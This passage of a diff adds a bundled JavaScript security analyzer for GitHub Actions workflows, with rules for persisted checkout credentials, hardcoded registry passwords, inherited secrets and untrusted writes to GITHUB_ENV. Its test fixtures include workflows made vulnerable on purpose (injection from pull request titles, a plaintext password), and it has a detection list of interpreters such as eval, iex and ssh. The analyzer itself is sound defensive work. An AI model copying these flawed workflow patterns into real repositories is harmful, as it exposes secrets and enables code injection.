+    return map.flow ? insertInFlow(map, key, value) : insertInBlock(map, key, value, after ?? map.entries.at(-1));
+}
+function insertInFlow(map, key, value) {
+    const { text } = map.file;
+    if (text[map.end - 1] !== "}")
+        return null;
+    const last = map.entries.at(-1);
+    const at = last ? endOf(last) : map.start + 1;
+    // Between the last value and the brace there may be a comma already.
+    const hasComma = last !== undefined && /^\s*,/.test(text.slice(at, map.end - 1));
+    if (hasComma)
+        return null;
+    return { start: at, end: at, text: `${last ? ", " : ""}${key}: ${flowText(value)}` };
+}
+function flowText(value) {
+    if (typeof value === "string")
+        return value;
+    return `{${Object.entries(value)
+        .map(([key, text]) => `${key}: ${text}`)
+        .join(", ")}}`;
+}
+function insertInBlock(map, key, value, after) {
+    const { file } = map;
+    const first = map.entries[0];
+    if (!after || !first)
+        return null;
+    const indent = indentOf(file, first.key);
+    if (indent === null)
+        return null;
+    const { at, newline } = endOfLine(file, lastCharacter(file, after));
+    const lines = blockLines(key, value, indent, indentStep(map));
+    return { start: at, end: at, text: lines.map((line) => newline + line).join("") };
+}
+function blockLines(key, value, indent, step) {
+    if (typeof value === "string")
+        return [`${indent}${key}: ${value}`];
+    return [`${indent}${key}:`, ...Object.entries(value).map(([name, text]) => `${indent}${step}${name}: ${text}`)];
+}
+/** Removes an entry with its line; null where it is its mapping's only one, or stands behind a `- ` with others on its line. */
+function removeEntry(map, entry) {
+    const index = map.entries.indexOf(entry);
+    if (index === -1 || map.entries.length === 1)
+        return null;
+    const next = map.entries[index + 1];
+    const previous = map.entries[index - 1];
+    if (map.flow) {
+        if (next)
+            return { start: entry.key.start, end: next.key.start, text: "" };
+        return previous ? { start: endOf(previous), end: endOf(entry), text: "" } : null;
+    }
+    const { file } = map;
+    const { at, newline } = endOfLine(file, lastCharacter(file, entry));
+    const start = startOfLine(file, entry.key.start);
+    // The first key of a list item shares its line with the dash: the next key takes its place.
+    if (file.text.slice(start, entry.key.start).trim() !== "") {
+        return next ? { start: entry.key.start, end: next.key.start, text: "" } : null;
+    }
+    const end = Math.min(file.text.length, at + (at < file.text.length ? newline.length : 0));
+    return { start, end, text: "" };
+}
+/** Puts `text` in the place of a node. */
+function replaceNode(node, text) {
+    return { start: node.start, end: node.end, text };
+}
+/** Sets a key of the mapping that `parent` holds under `name` (`with`, `env`, …), which is added where it is missing. */
+function setIn(parent, name, key, value, after) {
+    const holder = parent.entry(name);
+    if (!holder)
+        return insertEntry(parent, name, { [key]: value }, after);
+    if (holder.alias)
+        return null;
+    const { value: node } = holder;
+    if (node.kind === "map") {
+        const existing = node.entry(key);
+        if (!existing)
+            return node.entries.length === 0 && !node.flow ? null : insertEntry(node, key, value);
+        return existing.alias || existing.value.kind !== "scalar" ? null : replaceNode(existing.value, value);
+    }
+    return node.kind === "scalar" && node.isEmpty && !parent.flow ? fillEmpty(parent, holder, key, value) : null;
+}
+/** `with:` and nothing behind it. */
+function fillEmpty(parent, holder, key, value) {
+    const indent = indentOf(parent.file, holder.key);
+    if (indent === null)
+        return null;
+    const { at, newline } = endOfLine(parent.file, holder.key.end);
+    return { start: at, end: at, text: `${newline}${indent}${indentStep(parent)}${key}: ${value}` };
+}
+function endOf(entry) {
+    return entry.alias ? entry.alias.end : Math.max(entry.value.end, entry.key.end);
+}
+/** The end of an entry without the line breaks that a block scalar ends with. */
+function lastCharacter(file, entry) {
+    let end = endOf(entry);
+    while (end > entry.key.end && /\s/.test(file.text[end - 1]))
+        end--;
+    return end;
+}
+function startOfLine(file, offset) {
+    const { line } = file.position(offset);
+    return file.lineStarts[line - 1];
+}
+function endOfLine(file, offset) {
+    const { text } = file;
+    let at = offset;
+    while (at < text.length && text[at] !== "\n" && text[at] !== "\r")
+        at++;
+    return { at, newline: newlineOf(file) };
+}
+function newlineOf(file) {
+    const match = /\r\n|\n|\r/.exec(file.text);
+    return match ? match[0] : "\n";
+}
+/** White space as deep as a key stands; `- ` before it counts as two spaces. Null where a tab or a key stands before it. */
+function indentOf(file, key) {
+    const before = file.text.slice(startOfLine(file, key.start), key.start);
+    return /^[ -]*$/.test(before) ? " ".repeat(before.length) : null;
+}
+/** One level of indentation, as the mapping's own children have it; two spaces where it has none. */
+function indentStep(map) {
+    for (const entry of map.entries) {
+        const { value } = entry;
+        if (entry.alias || value.kind !== "map" || value.flow || !value.entries[0])
+            continue;
+        const { file } = map;
+        const own = file.position(entry.key.start).column;
+        const inner = file.position(value.entries[0].key.start).column;
+        if (inner > own)
+            return " ".repeat(inner - own);
+    }
+    return "  ";
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/places.js
+/** Where something is missing from a mapping: its first line, without what follows. */
+function firstLineOf(map) {
+    const { text } = map.file;
+    let end = map.start;
+    while (end < map.end && text[end] !== "\n" && text[end] !== "\r")
+        end++;
+    const hash = text.slice(map.start, end).search(/\s+#/);
+    return { file: map.file, start: map.start, end: hash === -1 ? end : map.start + hash };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rule.js
+/** Declares a rule; everything about it is in this one value. */
+function defineRule(rule) {
+    return { persona: "regular", isZizmor: false, fixes: "none", sources: [], ...rule };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/artipacked.js
+
+
+
+
+
+const INPUT = "persist-credentials";
+/* harmony default export */ const artipacked = (defineRule({
+    id: "artipacked",
+    category: "credentials",
+    severity: "medium",
+    isZizmor: true,
+    fixes: "both",
+    summary: "A checkout leaves its credential on disk",
+    risk: "Every later step can read the token from there, the tools and scripts of dependencies too; and where the workspace is uploaded, everyone who can download the artifact.",
+    mend: "Set `persist-credentials: false`. A step that pushes gets its own token.",
+    sources: [
+        "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",
+        "https://github.com/actions/checkout#usage",
+    ],
+    examples: {
+        flagged: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - name: Get the code
+        uses: actions/checkout@1234567890abcdef1234567890abcdef12345678 # v4.2.2
+      - run: make
+`,
+                at: [7],
+                severity: "medium",
+                confidence: "medium",
+                fixed: `on: push
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - name: Get the code
+        uses: actions/checkout@1234567890abcdef1234567890abcdef12345678 # v4.2.2
+        with:
+          persist-credentials: false
+      - run: make
+`,
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@1234567890abcdef1234567890abcdef12345678
+        with: {fetch-depth: 0}
+      - uses: actions/upload-artifact@1234567890abcdef1234567890abcdef12345678
+        with:
+          name: all
+          path: |
+            .
+            !dist
+`,
+                at: [7],
+                severity: "high",
+                fixed: `on: push
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@1234567890abcdef1234567890abcdef12345678
+        with: {fetch-depth: 0, persist-credentials: false}
+      - uses: actions/upload-artifact@1234567890abcdef1234567890abcdef12345678
+        with:
+          name: all
+          path: |
+            .
+            !dist
+`,
+            },
+            {
+                text: `on: push
+permissions: {contents: write}
+jobs:
+  release:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v6
+      - run: git push --tags
+`,
+                at: [7],
+                severity: "low",
+                fixed: `on: push
+permissions: {contents: write}
+jobs:
+  release:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v6
+        with:
+          persist-credentials: false
+      - run: git push --tags
+`,
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@1234567890abcdef1234567890abcdef12345678
+        with:
+          persist-credentials: true
+      - run: make
+`,
+                at: [7],
+                persona: "auditor",
+            },
+        ],
+        silent: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@1234567890abcdef1234567890abcdef12345678
+        with:
+          persist-credentials: false
+      - run: make
+`,
+                because: "it keeps no credential",
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@1234567890abcdef1234567890abcdef12345678
+        with:
+          persist-credentials: true
+      - run: make
+`,
+                because: "somebody said that it is wanted: only an auditor asks again",
+            },
+        ],
+    },
+    job(job, report) {
+        judgeSteps(job.steps, false, report);
+    },
+    // Steps of the caller come after those of a composite action.
+    action(action, report) {
+        if (action.kind === "composite")
+            judgeSteps(action.steps, true, report);
+    },
+}));
+function judgeSteps(steps, hasUnseenSteps, report) {
+    for (const step of steps) {
+        if (!step.uses?.is("actions/checkout"))
+            continue;
+        const persona = personaOf(step);
+        if (persona)
+            judgeCheckout(step, steps.slice(step.index + 1), hasUnseenSteps, persona, report);
+    }
+}
+/** Null where the credential isn't kept. */
+function personaOf(step) {
+    if (step.hasDynamicInputs)
+        return "pedantic";
+    const setting = step.input(INPUT)?.value;
+    if (setting?.kind !== "scalar" || setting.isNull)
+        return "regular";
+    if (expressionsIn(setting).length > 0)
+        return "pedantic";
+    const text = setting.value.trim().toLowerCase();
+    return text === "false" ? null : text === "true" ? "auditor" : "regular";
+}
+function judgeCheckout(step, later, hasUnseenSteps, persona, report) {
+    const upload = later.find(uploadsWorkspace);
+    const severity = severityOf(step, upload !== undefined);
+    const confidence = upload ? "high" : later.length > 0 ? "medium" : "low";
+    const readers = later.length > 0 || hasUnseenSteps ? "every later step can read it" : "no later step reads it today";
+    const message = upload
+        ? "The checkout leaves its token in the workspace, which is uploaded as an artifact"
+        : `The checkout leaves its token on disk; ${readers}`;
+    const related = upload ? [{ place: firstLineOf(upload.map), message: "the workspace is uploaded here" }] : [];
+    report(firstLineOf(step.map), message, {
+        severity,
+        confidence,
+        persona,
+        related,
+        fix: persona === "auditor" ? null : fixOf(step, later),
+    });
+}
+/** Since v6 the credential lies outside the workspace, where an upload doesn't take it along. */
+function severityOf(step, isUploaded) {
+    const severity = isUploaded ? "high" : "medium";
+    return (majorOf(step) ?? 0) >= 6 ? (0,lib/* lowered */.DM)(severity) : severity;
+}
+function fixOf(step, later) {
+    const edit = setIn(step.map, "with", INPUT, "false", step.map.entry("uses"));
+    return edit && { description: `set \`${INPUT}: false\``, safe: !later.some(pushes), edits: [edit] };
+}
+/** Actions that push with the credential that the checkout left. */
+const PUSHING_ACTIONS = [
+    "ad-m/github-push-action",
+    "changesets/action",
+    "endbug/add-and-commit",
+    "peaceiris/actions-gh-pages",
+    "peter-evans/create-pull-request",
+    "stefanzweifel/git-auto-commit-action",
+];
+const GIT_WITH_REMOTE = /\bgit\b[^\n;|&]*\b(?:push|fetch|pull|ls-remote|submodule|clone|remote)\b|\bgit-lfs\b|\bgit\s+lfs\b/;
+function pushes({ uses, run }) {
+    return run ? GIT_WITH_REMOTE.test(run.text) : PUSHING_ACTIONS.some((name) => uses?.is(name));
+}
+/** Does the artifact hold `.git`? From v4.4 hidden files stay out unless they are asked for. */
+function uploadsWorkspace(step) {
+    if (!step.uses?.is("actions/upload-artifact"))
+        return false;
+    const path = step.input("path")?.value;
+    if (path?.kind !== "scalar")
+        return false;
+    const lines = path.value.split("\n").map((line) => line.trim());
+    if (lines.some((line) => /^!.*\.git\b/.test(line)) || !lines.some(isWholeWorkspace))
+        return false;
+    const hidden = step.input("include-hidden-files")?.value;
+    const takesHidden = hidden?.kind === "scalar" && hidden.value !== "false";
+    return takesHidden || (majorOf(step) ?? 0) < 4;
+}
+function isWholeWorkspace(line) {
+    return (/^(?:\.{1,2}\/?|\.\/\*\*(?:\/\*)?|\*\*(?:\/\*)?)$/.test(line) ||
+        /^\$\{\{\s*github\.workspace\s*\}\}\/?$/i.test(line));
+}
+/** The major version of a `uses:` at a version tag; unknown for commits and branches. */
+function majorOf(step) {
+    const target = step.uses?.target;
+    if (target?.kind !== "repository" || isCommit(target.ref))
+        return null;
+    const match = /^v?(\d+)(?:\.|$)/.exec(target.ref);
+    return match ? Number(match[1]) : null;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/hardcoded-container-credentials.js
+
+
+/* harmony default export */ const hardcoded_container_credentials = (defineRule({
+    id: "hardcoded-container-credentials",
+    category: "credentials",
+    severity: "high",
+    isZizmor: true,
+    summary: "A registry password stands in the workflow",
+    risk: "Everyone who can read the repository, or any old clone of it, can pull and perhaps push images with this password.",
+    mend: "Revoke the password, store a new one as a secret, and write `password: ${{ secrets.REGISTRY_PASSWORD }}`.",
+    sources: [
+        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idcontainercredentials",
+    ],
+    examples: {
+        flagged: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    container:
+      image: registry.example.com/ci@sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc
+      credentials:
+        username: robot
+        password: hunter2
+    services:
+      db:
+        image: registry.example.com/db@sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc
+        credentials: {username: robot, password: "hunter2"}
+    steps:
+      - run: make test
+`,
+                at: [10, 14],
+            },
+        ],
+        silent: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    container:
+      image: registry.example.com/ci@sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc
+      credentials:
+        username: robot
+        password: \${{ secrets.REGISTRY_PASSWORD }}
+    steps:
+      - run: make test
+`,
+                because: "the password comes from a secret, and a user's name is none",
+            },
+        ],
+    },
+    container(container, _job, report) {
+        const password = container.credentials?.scalar("password");
+        if (!password || password.isNull || password.value === "" || expressionsIn(password).length > 0)
+            return;
+        const whose = container.kind === "container" ? "the job's container" : `the service \`${container.name}\``;
+        report(password, `The registry password of ${whose} is written out`);
+    },
+}));
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/holdings.js
+
+
+const holdings_cache = new WeakMap();
+function holdingsOf(job) {
+    let holdings = holdings_cache.get(job);
+    if (!holdings) {
+        holdings = readHoldings(job);
+        holdings_cache.set(job, holdings);
+    }
+    return holdings;
+}
+function readHoldings(job) {
+    const { permissions } = job.effectivePermissions;
+    const writes = permissions?.writes ?? [];
+    const secrets = secretsOf(job);
+    return {
+        secrets: [...secrets.names].sort(),
+        mayHoldAnySecret: secrets.isOpen,
+        writes: writes.filter((scope) => scope !== "id-token"),
+        hasDefaultToken: permissions === null,
+        hasIdentity: writes.includes("id-token"),
+    };
+}
+/** No secret, no write scope and no identity: there is little to gain. */
+function holdsNothing(holdings) {
+    return (holdings.secrets.length === 0 &&
+        !holdings.mayHoldAnySecret &&
+        holdings.writes.length === 0 &&
+        !holdings.hasDefaultToken &&
+        !holdings.hasIdentity);
+}
+function secretsOf(job) {
+    const found = { names: new Set(), isOpen: job.kind === "reusable" && job.inheritsSecrets };
+    const collect = (scalar) => collectSecrets(scalar, found);
+    visitScalars(job.map, collect, new Set());
+    const env = job.workflow.env?.entry.value;
+    if (env)
+        visitScalars(env, collect, new Set());
+    return found;
+}
+function collectSecrets(scalar, found) {
+    for (const name of secretsNamedIn(scalar)) {
+        if (name === "*")
+            found.isOpen = true;
+        else if (name.toLowerCase() !== "github_token")
+            found.names.add(name.toUpperCase());
+    }
+}
+/** The secrets that a scalar's expressions name, as they write them; `*` where the name is computed or all are meant. */
+function secretsNamedIn(scalar) {
+    const names = [];
+    for (const embedded of expressionsIn(scalar)) {
+        // Few expressions speak of secrets: the others needn't be parsed for this.
+        if (!/secrets/i.test(embedded.body) || !embedded.expression)
+            continue;
+        for (const { segments, node } of references(embedded.expression)) {
+            if (segments[0] !== "secrets")
+                continue;
+            const name = segments[1] ?? "*";
+            names.push(name === "*" ? name : asWritten(scalar.value.slice(node.start, node.end), name));
+        }
+    }
+    return names;
+}
+function asWritten(text, name) {
+    const at = text.toLowerCase().indexOf(name, "secrets".length);
+    return at === -1 ? name : text.slice(at, at + name.length);
+}
+/** Calls `visit` for every scalar value below a node, each once however many aliases lead there. */
+function visitScalars(node, visit, seen) {
+    if (seen.has(node))
+        return;
+    seen.add(node);
+    if (node.kind === "scalar")
+        visit(node);
+    else if (node.kind === "seq")
+        for (const item of node.items)
+            visitScalars(item.value, visit, seen);
+    else
+        for (const entry of node.entries)
+            visitScalars(entry.value, visit, seen);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/secrets-inherit.js
+
+
+
+/* harmony default export */ const secrets_inherit = (defineRule({
+    id: "secrets-inherit",
+    category: "credentials",
+    severity: "medium",
+    isZizmor: true,
+    fixes: "unsafe",
+    summary: "A called workflow gets every secret of the caller",
+    risk: "Whoever changes the called workflow, or finds a hole in it, takes every secret of this repository and its organization, not only those that it needs.",
+    mend: "Pass the secrets that it needs, by name: `secrets: {TOKEN: ${{ secrets.TOKEN }}}`.",
+    sources: [
+        "https://docs.github.com/actions/how-tos/reuse-automations/reuse-workflows#passing-inputs-and-secrets-to-a-reusable-workflow",
+    ],
+    examples: {
+        flagged: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  call:
+    uses: octo-org/workflows/.github/workflows/build.yml@1234567890abcdef1234567890abcdef12345678
+    secrets: inherit
+`,
+                at: [6],
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  call:
+    uses: ./.github/workflows/called.yml
+    secrets: inherit # all of them
+`,
+                files: {
+                    ".github/workflows/called.yml": `on:
+  workflow_call:
+    secrets:
+      DEPLOY_KEY: {required: true}
+permissions: {}
+jobs:
+  deploy:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make deploy
+        env:
+          KEY: \${{ secrets.DEPLOY_KEY }}
+          URL: \${{ secrets.DEPLOY_URL }}
+          TOKEN: \${{ secrets.GITHUB_TOKEN }}
+`,
+                },
+                at: [6],
+                fixed: `on: push
+permissions: {}
+jobs:
+  call:
+    uses: ./.github/workflows/called.yml
+    secrets: {DEPLOY_KEY: "\${{ secrets.DEPLOY_KEY }}", DEPLOY_URL: "\${{ secrets.DEPLOY_URL }}"} # all of them
+`,
+            },
+        ],
+        silent: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  call:
+    uses: octo-org/workflows/.github/workflows/build.yml@1234567890abcdef1234567890abcdef12345678
+    secrets:
+      TOKEN: \${{ secrets.TOKEN }}
+`,
+                because: "it lists what it passes",
+            },
+        ],
+    },
+    reusableJob(job, report) {
+        if (!job.inheritsSecrets || !job.secrets)
+            return;
+        report(job.secrets.value, `\`${job.uses.text}\` gets every secret`, { fix: listSecrets(job, report) });
+    },
+}));
+/** A local callee shows which secrets it uses; those of workflows that it calls in turn count only if it names them. */
+function listSecrets(job, report) {
+    const callee = report.repository.resolve(job.uses);
+    if (callee?.kind !== "workflow" || !job.secrets)
+        return null;
+    const names = secretsUsedBy(callee);
+    if (!names)
+        return null;
+    const pairs = names.map((name) => `${name}: "\${{ secrets.${name} }}"`);
+    const edits = [replaceNode(job.secrets.value, `{${pairs.join(", ")}}`)];
+    return { description: "pass only the secrets that the called workflow uses", safe: false, edits };
+}
+/** Null when it may use any. */
+function secretsUsedBy(workflow) {
+    if (workflow.jobs.some((called) => called.kind === "reusable" && called.inheritsSecrets))
+        return null;
+    const names = new Map();
+    const add = (name) => names.set(name.toLowerCase(), names.get(name.toLowerCase()) ?? name);
+    for (const { key } of workflow.trigger("workflow_call")?.secrets ?? [])
+        add(key.value);
+    visitScalars(workflow.root, (scalar) => secretsNamedIn(scalar).forEach(add), new Set());
+    names.delete("github_token");
+    return names.has("*") ? null : [...names.values()].sort();
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/triggers.js
+/**
+ * Events that anybody can fire in a public repository, without write access.
+ *
+ * @see Events that trigger workflows; a scan of the webhook documentation for who can cause each
+ */
+const FIRED_BY_ANYONE = new Set([
+    "discussion",
+    "discussion_comment",
+    "fork",
+    "gollum",
+    "issue_comment",
+    "issues",
+    "pull_request",
+    "pull_request_review",
+    "pull_request_review_comment",
+    "pull_request_target",
+    "watch",
+    "workflow_run",
+]);
+/** Of these, the ones whose runs get secrets and a full token all the same: they run in the base repository's context. */
+const UNPRIVILEGED = new Set([
+    "pull_request",
+    "pull_request_review",
+    "pull_request_review_comment",
+]);
+function isFiredByAnyone(event) {
+    return FIRED_BY_ANYONE.has(event);
+}
+/** Can anybody start a run that holds secrets and a write token by this event? */
+function isPrivileged(event) {
+    return FIRED_BY_ANYONE.has(event) && !UNPRIVILEGED.has(event);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/injection/github-env.js
+
+
+
+const FILES = ["GITHUB_ENV", "GITHUB_PATH"];
+/* harmony default export */ const github_env = (defineRule({
+    id: "github-env",
+    category: "injection",
+    severity: "high",
+    isZizmor: true,
+    summary: "Something that isn't fixed is written to GITHUB_ENV or GITHUB_PATH where strangers can start the run",
+    risk: "A line of the attacker's in that file sets any variable of the steps that follow (`LD_PRELOAD`, `NODE_OPTIONS`, `PATH`), and so runs code in them.",
+    mend: "Hand values on as step outputs (`GITHUB_OUTPUT`) and read them where they are needed; write only fixed text to `GITHUB_ENV` and `GITHUB_PATH`.",
+    sources: [
+        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-commands#setting-an-environment-variable",
+    ],
+    examples: {
+        flagged: [
+            {
+                text: `on: pull_request_target
+permissions: {contents: write}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          set -e
+          echo "TITLE=$TITLE" >> "$GITHUB_ENV"
+          cat names.txt | tee -a $GITHUB_PATH
+        env:
+          TITLE: \${{ github.event.pull_request.title }}
+`,
+                at: [9, 10],
+            },
+            {
+                text: `on: issue_comment
+permissions: {contents: write}
+jobs:
+  a:
+    runs-on: windows-latest
+    steps:
+      - run: Add-Content -Path $env:GITHUB_ENV -Value "BODY=$env:BODY"
+        env:
+          BODY: \${{ github.event.comment.body }}
+`,
+                at: [7],
+            },
+            {
+                path: "act/action.yml",
+                text: `name: c
+description: c
+inputs: {name: {description: n}}
+runs:
+  using: composite
+  steps:
+    - run: echo "NAME=\${{ inputs.name }}" >> $GITHUB_ENV
+      shell: bash
+`,
+                at: [7],
+                confidence: "low",
+            },
+        ],
+        silent: [
+            {
+                text: `on: pull_request_target
+permissions: {contents: write}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          # echo "T=$X" >> $GITHUB_ENV
+          echo "LEVEL=3" >> "$GITHUB_ENV"
+          echo "$HOME/.local/bin" >> "$GITHUB_PATH"
+          echo "title=$TITLE" >> "$GITHUB_OUTPUT"
+`,
+                because: "a comment writes nothing, fixed text is the author's own, and an output sets no variable",
+            },
+            {
+                text: `on: push
+permissions: {contents: write}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "VERSION=$(git describe)" >> "$GITHUB_ENV"
+`,
+                because: "only people with write access can start the run",
+            },
+        ],
+    },
+    run(run, report) {
+        if (!mentions(run.text, FILES))
+            return;
+        const { owner } = run.step;
+        const isComposite = owner.kind === "composite";
+        const event = isComposite
+            ? undefined
+            : owner.workflow.triggers.find((trigger) => isPrivileged(trigger.event))?.event;
+        if (!isComposite && event === undefined)
+            return;
+        const who = event === undefined
+            ? "a workflow that strangers can start may call this action"
+            : `strangers can start this run by \`${event}\``;
+        for (const write of environmentFileWrites(run.script, FILES)) {
+            if (write.content === "static")
+                continue;
+            const span = run.scalar.spanOf(write.span.start, write.span.end);
+            const message = `Text that isn't fixed is written to \`${write.file}\`, and ${who}`;
+            report({ file: run.scalar.file, ...span }, message, { confidence: isComposite ? "low" : "medium" });
+        }
+    },
+}));
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/hand-over.js
+
+
+
+
+/**
+ * A fix that hands an expression's value over in `env:` and reads the variable where the expression stood, so that the
+ * script never holds the text. Null where no reference would mean the same: in cmd, which pastes variables before it
+ * reads them, in text that is read as code once more, and where the place can't be understood.
+ */
+function handOverThroughEnv(embedded, shell, step) {
+    const { scalar, expression } = embedded;
+    if (!expression || !embedded.isTerminated)
+        return null;
+    const script = step.run?.scalar === scalar
+        ? step.run.script
+        : parseScript(scalar.value, shell, expressionsIn(scalar));
+    const variable = variableFor(embedded, expression, step);
+    const replacement = variable && referenceAt(embedded, variable.name, shell, script);
+    if (!replacement)
+        return null;
+    const edit = replaceInScalar(scalar, replacement);
+    const declare = variable.isSet ? null : declareVariable(step, variable.name, embedded.text);
+    if (!edit || (!variable.isSet && !declare))
+        return null;
+    return {
+        description: `hand the value over in the variable \`${variable.name}\``,
+        safe: replacement.isSafe && isOneWord(expression, replacement),
+        edits: declare ? [edit, declare] : [edit],
+    };
+}
+/** Values of a payload are one word each; inputs and the like may be meant as several. */
+function isOneWord(expression, { joinsWords }) {
+    return !joinsWords || references(expression).every(({ segments }) => segments[0] === "github");
+}
+// ---- the reference -------------------------------------------------------------------------------------------------
+function referenceAt(embedded, name, shell, script) {
+    const { start, end } = embedded;
+    const whole = { start, end, isSafe: true, joinsWords: false };
+    switch (shell) {
+        case "bash":
+        case "sh":
+            return shellReference(embedded, name, script);
+        case "pwsh":
+        case "powershell":
+            return powershellReference(embedded, name, script);
+        case "python": {
+            const literal = script.strings.find((string) => string.body.start === start && string.body.end === end);
+            if (literal?.kind !== "string" && literal?.kind !== "raw-string")
+                return null;
+            return { ...whole, start: literal.start, end: literal.end, text: `__import__("os").environ["${name}"]` };
+        }
+        case "javascript":
+            return javascriptReference(embedded, name, script);
+        default:
+            return null;
+    }
+}
+function shellReference({ start, end }, name, script) {
+    if (isReadAsCodeAgain(script, start))
+        return null;
+    const whole = { start, end, isSafe: true, joinsWords: false };
+    switch (script.quotingAt(start)) {
+        case "double":
+        case "heredoc":
+            return { ...whole, text: `\${${name}}` };
+        case "single":
+            return { ...whole, text: `'"\${${name}}"'` };
+        case "none":
+            return isArgument(script, start) ? { ...whole, text: `"\${${name}}"`, joinsWords: true } : null;
+        default:
+            return null;
+    }
+}
+function powershellReference({ start, end }, name, script) {
+    if (isReadAsCodeAgain(script, start))
+        return null;
+    const whole = { start, end, isSafe: true, joinsWords: false };
+    switch (script.quotingAt(start)) {
+        case "double":
+        case "here-string-double":
+            return { ...whole, text: `\${env:${name}}` };
+        case "single": {
+            // Only a literal that holds nothing else: the variable can take its place.
+            const isWhole = script.text[start - 1] === "'" && script.text[end] === "'";
+            return isWhole ? { ...whole, start: start - 1, end: end + 1, text: `\${env:${name}}` } : null;
+        }
+        case "none":
+            return isArgument(script, start) ? { ...whole, text: `\${env:${name}}`, joinsWords: true } : null;
+        default:
+            return null;
+    }
+}
+function javascriptReference({ start, end }, name, script) {
+    const literal = script.strings.find((string) => string.start < start && end < string.end);
+    const whole = { start, end, isSafe: true, joinsWords: false };
+    if (literal?.kind === "template" && script.quotingAt(start) === "template") {
+        return { ...whole, text: `\${process.env.${name}}` };
+    }
+    if (literal?.body.start !== start || literal.body.end !== end)
+        return null;
+    return { ...whole, start: literal.start, end: literal.end, text: `process.env.${name}` };
+}
+const INTERPRETERS = new Set([
+    "bash",
+    "cmd",
+    "dash",
+    "eval",
+    "iex",
+    "invoke-expression",
+    "ksh",
+    "node",
+    "perl",
+    "php",
+    "powershell",
+    "pwsh",
+    "python",
+    "python3",
+    "ruby",
+    "sh",
+    "source",
+    "ssh",
+    "su",
+    "zsh",
+]);
+const NAMES_INTERPRETER = new RegExp(`\\b(?:${[...INTERPRETERS].join("|")})\\b`, "i");
+/** `bash -c '…'`, `eval`, `ssh host …`: a variable's value would be pasted into code there just the same. */
+function isReadAsCodeAgain(script, offset) {
+    // Most scripts name none, and need not be parsed for this.
+    if (!NAMES_INTERPRETER.test(script.text))
+        return false;
+    return script.commands.some((command) => {
+        if (offset < command.start || offset >= command.end)
+            return false;
+        if (command.place.nestedIn)
+            return true;
+        const name = effectiveCommand(command)?.name?.literal?.split(/[\\/]/).at(-1)?.toLowerCase();
+        return name !== undefined && INTERPRETERS.has(name) && isInWords(command, offset);
+    });
+}
+function isInWords(command, offset) {
+    return command.args.some((word) => word.start <= offset && offset < word.end);
+}
+/** An argument, a redirect's target or a plain assignment: places where a quoted variable may stand. */
+function isArgument(script, offset) {
+    return script.commands.some((command) => isInWords(command, offset) ||
+        command.redirects.some(({ target }) => target !== undefined && target.start <= offset && offset < target.end) ||
+        command.assignments.some((assignment) => assignment.values.length === 1 &&
+            assignment.start <= offset &&
+            offset < assignment.end &&
+            !isArray(script, assignment)));
+}
+function isArray(script, assignment) {
+    return script.text.slice(assignment.start, assignment.end).includes("=(");
+}
+/** Contexts that the runner hands to every script as variables. */
+const PROVIDED = new Set([
+    "github.actor",
+    "github.base_ref",
+    "github.event_name",
+    "github.head_ref",
+    "github.ref",
+    "github.ref_name",
+    "github.repository",
+    "github.run_id",
+    "github.sha",
+    "github.workflow",
+]);
+function variableFor(embedded, expression, step) {
+    const path = contextPath(expression);
+    const dotted = path?.segments.join(".") ?? "";
+    if (path?.exact && PROVIDED.has(dotted))
+        return { name: dotted.replace(".", "_").toUpperCase(), isSet: true };
+    if (path?.exact && path.segments[0] === "env" && path.segments.length === 2)
+        return existing(path.segments[1], step);
+    const [first] = references(expression);
+    if (!first)
+        return null;
+    const base = nameFor(first.segments);
+    for (let n = 1; n < 10; n++) {
+        const name = n === 1 ? base : `${base}_${n}`;
+        const entry = step.variable(name);
+        if (!entry)
+            return { name, isSet: false };
+        if (entry.value?.value === embedded.text)
+            return { name: entry.name, isSet: true };
+    }
+    return null;
+}
+/** `env.X` is a variable of the script as it is, if an `env:` block sets it. */
+function existing(name, step) {
+    const entry = step.variable(name);
